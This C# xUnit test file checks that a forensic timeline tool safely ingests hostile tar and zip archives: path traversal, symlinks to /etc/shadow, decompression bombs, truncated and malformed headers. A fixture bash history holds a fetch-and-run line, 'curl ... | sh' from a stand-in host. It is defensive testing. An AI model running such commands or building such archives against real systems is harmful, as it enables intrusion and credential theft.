using System.Diagnostics;
using System.Formats.Tar;
using System.Text;
using Timeline.Core.Ingest;
using Timeline.Core.Ingest.Archives;
using Timeline.Core.Store;
using Timeline.Pipeline;
using Xunit;
using static Timeline.Tests.Ingest.Archives.ArchiveBuilder;
using static Timeline.Tests.Ingest.Archives.ArchiveIngestTests;

namespace Timeline.Tests.Ingest.Archives;

/// <summary>Hostile archives are evidence too: each gets a clear warning naming archive and member, in bounded time and memory, and nothing is written outside our own temporary folder.</summary>
public sealed class HostileArchiveTests
{
    private const string Line = "Mar  2 03:15:02 web01 sshd[1]: Accepted password for root from 203.0.113.45 port 22 ssh2\n";

    private static List<string> Warnings(string casePath)
    {
        using var read = CaseStores.OpenForRead(casePath);
        return read.Warnings().Select(w => w.Message).ToList();
    }

    [Fact]
    public void DotDotAbsoluteNulAndDeepNamesAreWarnedAndStillReadWithoutWritingAnything()
    {
        var deep = string.Join('/', Enumerable.Repeat("d", 3000)) + "/deep.log";
        var archive = Gzip(Tar(("../../etc/evil.log", Line), ("/var/log/abs.log", Line), ("a\0b.log", Line), (deep, Line)));
        var (dir, casePath, _) = IngestArchive("hostile.tar.gz", archive);
        var warnings = Warnings(casePath);
        Assert.Contains(warnings, w => w.Contains("../../etc/evil.log", StringComparison.Ordinal) && w.Contains("'..'", StringComparison.Ordinal));
        Assert.Contains(warnings, w => w.Contains("absolute path", StringComparison.Ordinal));
        Assert.Contains(warnings, w => w.Contains("3,001 path levels", StringComparison.Ordinal));
        using var read = CaseStores.OpenForRead(casePath);
        // The four members hold the same bytes: one evidence file, one event.
        Assert.Single(read.Events());
        Assert.False(File.Exists(Path.Combine(dir, "..", "..", "etc", "evil.log")));
        Assert.Equal(["case.db", "hostile.tar.gz"], Directory.GetFileSystemEntries(dir).Select(p => Path.GetFileName(p)).Where(n => !n.StartsWith("case.db.", StringComparison.Ordinal) && !n.StartsWith("case.db-", StringComparison.Ordinal)).Order(StringComparer.Ordinal).ToArray());
    }

    [Fact]
    public void LinksAreRecordedNotFollowed()
    {
        var ms = new MemoryStream();
        using (var tar = new TarWriter(ms, TarEntryFormat.Pax, leaveOpen: true))
        {
            tar.WriteEntry(new PaxTarEntry(TarEntryType.SymbolicLink, "var/log/auth.log") { LinkName = "/etc/shadow" });
            tar.WriteEntry(new PaxTarEntry(TarEntryType.HardLink, "var/log/syslog") { LinkName = "var/log/auth.log" });
        }
        var (_, casePath, _) = IngestArchive("links.tar", ms.ToArray());
        var warnings = Warnings(casePath);
        Assert.Contains(warnings, w => w.Contains("symbolic link to '/etc/shadow'", StringComparison.Ordinal) && w.Contains("links.tar!/var/log/auth.log", StringComparison.Ordinal));
        Assert.Contains(warnings, w => w.Contains("hard link", StringComparison.Ordinal));
    }

    [Fact]
    public void ADecompressionBombIsRefusedNamingTheMember()
    {
        var zeros = new byte[32 * 1024 * 1024];
        var archive = Gzip(Tar(("var/log/auth.log", Encoding.UTF8.GetBytes(Line)), ("bomb.log", zeros)));
        var limits = new ArchiveLimits { RatioAfterBytes = 1024 * 1024, MaxRatio = 100 };
        var clock = Stopwatch.StartNew();
        var (_, casePath, _) = IngestArchive("bomb.tar.gz", archive, new IngestOptions { Year = 2024, ArchiveLimits = limits });
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(30));
        Assert.Contains(Warnings(casePath), w => w.Contains("decompression bomb refused at member", StringComparison.Ordinal) && w.Contains("bomb.log", StringComparison.Ordinal));
        using var read = CaseStores.OpenForRead(casePath);
        Assert.Single(read.Events());
    }

    [Fact]
    public void AnAbsoluteSizeBoundStopsTheArchive()
    {
        var archive = Tar(("a.log", new string('x', 200_000) + "\n"));
        var (_, casePath, _) = IngestArchive("big.tar", archive, new IngestOptions { Year = 2024, ArchiveLimits = new ArchiveLimits { MaxTotalBytes = 100_000 } });
        Assert.Contains(Warnings(casePath), w => w.Contains("more than 100,000 bytes", StringComparison.Ordinal));
    }

    [Fact]
    public void ManyTinyMembersStayBoundedAndAreSummarised()
    {
        var members = Enumerable.Range(0, 3000).Select(i => ($"m/{i}.log", "")).ToArray();
        var archive = Gzip(Tar(members));
        var (_, casePath, report) = IngestArchive("many.tar.gz", archive, new IngestOptions { Year = 2024, ArchiveLimits = new ArchiveLimits { MaxMembers = 1000 } });
        var warnings = Warnings(casePath);
        Assert.Contains(warnings, w => w.Contains("more than 1,000 members", StringComparison.Ordinal));
        Assert.True(report.Files.Count <= 1100, $"{report.Files.Count} outcomes");
        // Empty members share one SHA-256: one evidence record, the rest are "already in the case".
        Assert.Contains(report.Files, f => f.Status == FileStatus.AlreadyIngested);
    }

    [Fact]
    public void ProblemsPastTheListedBoundAreSummarisedNotWarnedOneByOne()
    {
        var members = Enumerable.Range(0, 300).Select(i => ($"../x{i}.log", Line + i)).ToArray();
        var (_, casePath, _) = IngestArchive("names.tar", Tar(members), new IngestOptions { Year = 2024, ArchiveLimits = new ArchiveLimits { ListedProblems = 10 } });
        var warnings = Warnings(casePath).Where(w => w.Contains("'..'", StringComparison.Ordinal) || w.Contains("more member(s)", StringComparison.Ordinal)).ToList();
        Assert.Equal(11, warnings.Count);
        Assert.Contains(warnings, w => w.Contains("290 more member(s)", StringComparison.Ordinal));
    }

    [Fact]
    public void ATruncatedArchiveKeepsTheMembersBeforeTheDamageAndNamesTheOffset()
    {
        var random = new Random(7);
        var noise = new byte[400_000];
        random.NextBytes(noise);
        var full = Gzip(Tar(("var/log/auth.log", Encoding.UTF8.GetBytes(Line)), ("noise.bin", noise), ("var/log/late.log", Encoding.UTF8.GetBytes(Line))));
        var cut = full[..(full.Length / 2)];
        var (_, casePath, _) = IngestArchive("cut.tar.gz", cut);
        using var read = CaseStores.OpenForRead(casePath);
        Assert.Contains(read.Files(), f => f.Path.EndsWith("!/var/log/auth.log", StringComparison.Ordinal));
        Assert.DoesNotContain(read.Files(), f => f.Path.EndsWith("late.log", StringComparison.Ordinal));
        Assert.Contains(read.Warnings(), w => w.Message.Contains("damaged at compressed offset", StringComparison.Ordinal) && w.Message.Contains("noise.bin", StringComparison.Ordinal));
    }

    /// <summary>
    /// A zip cut short loses its central directory (written last) first: the members before the cut are read
    /// from their local headers — with sizes in the header, or (written to a pipe) in a data descriptor after the data.
    /// </summary>
    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public void ATruncatedZipKeepsTheMembersBeforeTheCutThroughTheirLocalHeaders(bool streamed)
    {
        var random = new Random(7);
        var noise = new byte[400_000];
        random.NextBytes(noise);
        var history = Encoding.UTF8.GetBytes("#1709349400\ncurl -s http://198.51.100.7/x.sh | sh\n");
        var full = Zip(streamed, ("var/log/auth.log", Encoding.UTF8.GetBytes(Line)), ("root/.bash_history", history), ("noise.bin", noise), ("var/log/late.log", Encoding.UTF8.GetBytes(Line + Line)));
        var cut = full[..(full.Length / 2)];
        var (_, casePath, _) = IngestArchive("Collection-cut.zip", cut, new IngestOptions { Year = 2024 });
        using var read = CaseStores.OpenForRead(casePath);
        Assert.Contains(read.Files(), f => f.Path.EndsWith("!/var/log/auth.log", StringComparison.Ordinal));
        Assert.Contains(read.Files(), f => f.Path.EndsWith("!/root/.bash_history", StringComparison.Ordinal));
        Assert.DoesNotContain(read.Files(), f => f.Path.EndsWith("late.log", StringComparison.Ordinal));
        Assert.Equal(2, read.Events().Count());
        Assert.Contains(read.Warnings(), w => w.Message.Contains("central directory", StringComparison.Ordinal) && w.Message.Contains("local headers", StringComparison.Ordinal));
        Assert.Contains(read.Warnings(), w => w.Message.Contains("damaged at compressed offset", StringComparison.Ordinal) && w.Message.Contains("noise.bin", StringComparison.Ordinal));
    }

    /// <summary>
    /// Found by the archive fuzz target: a header number in GNU base-256 form (first byte 0x80) too large for
    /// 64 bits makes TarReader throw OverflowException. It is damage like any other bad header: warned with
    /// the offset, the members before it kept — not an exception out of the ingest.
    /// </summary>
    [Fact]
    public void AHeaderNumberTooLargeForSixtyFourBitsIsDamageNotACrash()
    {
        var ms = new MemoryStream();
        using (var tar = new TarWriter(ms, TarEntryFormat.Ustar, leaveOpen: true))
        {
            tar.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, "var/log/auth.log") { DataStream = new MemoryStream(Encoding.UTF8.GetBytes(Line)) });
            tar.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, "var/log/late.log") { DataStream = new MemoryStream(Encoding.UTF8.GetBytes(Line)) });
        }
        var bytes = ms.ToArray();
        const int second = 1024; // header 512 + one data block of the first member
        bytes[second + 124] = 0x80; // size field (124..135), base-256: 88 bits of ones
        for (var i = second + 125; i < second + 136; i++) bytes[i] = 0xFF;
        for (var i = second + 148; i < second + 156; i++) bytes[i] = (byte)' ';
        var sum = 0;
        for (var i = second; i < second + 512; i++) sum += bytes[i];
        Encoding.ASCII.GetBytes(Convert.ToString(sum, 8).PadLeft(6, '0') + "\0 ").CopyTo(bytes, second + 148);

        var (_, casePath, _) = IngestArchive("overflow.tar", bytes);
        using var read = CaseStores.OpenForRead(casePath);
        Assert.Contains(read.Files(), f => f.Path.EndsWith("!/var/log/auth.log", StringComparison.Ordinal));
        Assert.Contains(read.Warnings(), w => w.Message.Contains("damaged at compressed offset", StringComparison.Ordinal) && w.Message.Contains("OverflowException", StringComparison.Ordinal));
    }

    [Fact]
    public void APasswordProtectedZipGetsAClearWarning()
    {
        var zip = MarkEncrypted(Zip(("var/log/auth.log", Line)));
        var (_, casePath, _) = IngestArchive("locked.zip", zip);
        Assert.Contains(Warnings(casePath), w => w.Contains("password-protected", StringComparison.Ordinal) && w.Contains("locked.zip!/var/log/auth.log", StringComparison.Ordinal));
    }

    [Fact]
    public void DuplicateZipMemberNamesAreWarnedAndBothRead()
    {
        var zip = Zip(("var/log/auth.log", Line), ("var/log/auth.log", Line.Replace("root", "alice", StringComparison.Ordinal)));
        var (_, casePath, _) = IngestArchive("dup.zip", zip);
        Assert.Contains(Warnings(casePath), w => w.Contains("appears more than once", StringComparison.Ordinal));
        using var read = CaseStores.OpenForRead(casePath);
        Assert.Equal(2, read.Events().Count());
    }

    [Fact]
    public void LargeMembersSpoolToAPrivateFolderThatIsGoneAfterwards()
    {
        var big = string.Concat(Enumerable.Repeat(Line, 20_000));
        var before = Directory.GetDirectories(Path.GetTempPath(), "timeline-spool-*").ToHashSet();
        var (_, casePath, _) = IngestArchive("big.tar.gz", Gzip(Tar(("var/log/auth.log", big))), new IngestOptions { Year = 2024, ArchiveLimits = new ArchiveLimits { SpoolMemoryBytes = 64 * 1024 } });
        using var read = CaseStores.OpenForRead(casePath);
        Assert.Equal(20_000, read.Events().Count());
        Assert.DoesNotContain(Directory.GetDirectories(Path.GetTempPath(), "timeline-spool-*"), d => !before.Contains(d));
    }
}
